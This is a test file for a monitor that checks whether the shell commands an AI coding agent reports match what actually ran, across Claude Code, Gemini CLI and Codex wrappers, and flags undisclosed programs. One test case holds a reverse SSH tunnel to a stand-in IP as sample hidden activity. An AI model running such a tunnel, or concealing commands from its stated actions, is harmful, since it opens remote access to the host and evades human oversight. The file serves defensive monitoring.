import { describe, expect, it } from 'vitest'
import { compareCommands, isOpenShell, runsShellText } from './told-and-run.ts'

const curl = 'curl -s -m 3 https://example.com/one'

describe('what was told and what ran', () => {
  // As the agents' own versions start their commands; content ours.
  it.each([
    ['plain', curl, `bash -c '${curl}'`],
    [
      'Claude Code',
      `git commit -m "it's done" && ${curl}`,
      `/bin/bash -c 'source /home/a/.claude/shell-snapshots/s.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval '\\''git commit -m "it'\\''"'\\''"'\\''s done" && ${curl}'\\'' < /dev/null && pwd -P >| /tmp/claude-1-cwd'`,
    ],
    [
      'Gemini CLI',
      curl,
      `/usr/bin/bash -c 'shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/tmp/g.tmp; { ${curl}; }; __code=$?; pgrep -g 0 >"$_bgpids_file" 2>&1; exit $__code;'`,
    ],
    ['Codex', JSON.stringify({ cmd: curl }), `/bin/bash -lc '${curl}'`],
  ])('agree through the wrapper of %s', (_, told, ran) => {
    expect(compareCommands('Bash', told, ran)).toEqual({ agreement: 1, extra: [] })
  })

  it('agree for a command that was run without a shell', () => {
    expect(compareCommands('shell', `cd app && ${curl} | jq .`, curl).agreement).toBeGreaterThan(0.9)
    expect(
      compareCommands('shell', curl, '/usr/bin/curl -s -m 3 https://example.com/one').agreement,
    ).toBeGreaterThan(0.9)
  })

  it('disagree, and what was not told of is named', () => {
    const ran = "bash -c 'ssh -fNR 2222:localhost:22 u@203.0.113.7'"
    expect(compareCommands('Bash', 'ls', ran)).toEqual({ agreement: 0, extra: ['ssh'] })
    expect(compareCommands('Bash', 'npm test', `bash -c 'npm test; ${curl}'`)).toEqual({
      agreement: 1,
      extra: ['curl'],
    })
    // Another call of the same program is another call.
    expect(compareCommands('Bash', curl, "bash -c 'curl -s https://example.net/two'").agreement).toBeLessThan(
      0.5,
    )
  })

  it('are not taken for equal because one word stands in the other', () => {
    expect(compareCommands('Bash', 'ls', "bash -c 'lsof -i'").agreement).toBe(0)
    expect(compareCommands('Bash', 'a', "bash -c 'cat data'").agreement).toBe(0)
  })

  it('tell a shell that is fed with commands from one that was given its text', () => {
    expect(['bash', '-bash', 'bash --norc -i', '/bin/sh'].map(isOpenShell)).toEqual([true, true, true, true])
    expect(['bash -c ls', 'bash script.sh', 'python3', "bash -lc 'ls'"].map(isOpenShell)).toEqual([
      false,
      false,
      false,
      false,
    ])
    expect(runsShellText("bash -c -l 'ls -l'")).toBe(true)
    expect(runsShellText('git status')).toBe(false)
  })

  it('may be of any length and shape', () => {
    const long = `${'a '.repeat(50_000)}'`
    expect(compareCommands('Bash', long, `bash -c '${long}`).agreement).toBeGreaterThanOrEqual(0)
    expect(compareCommands('', '', '')).toEqual({ agreement: 0, extra: [] })
  })
})
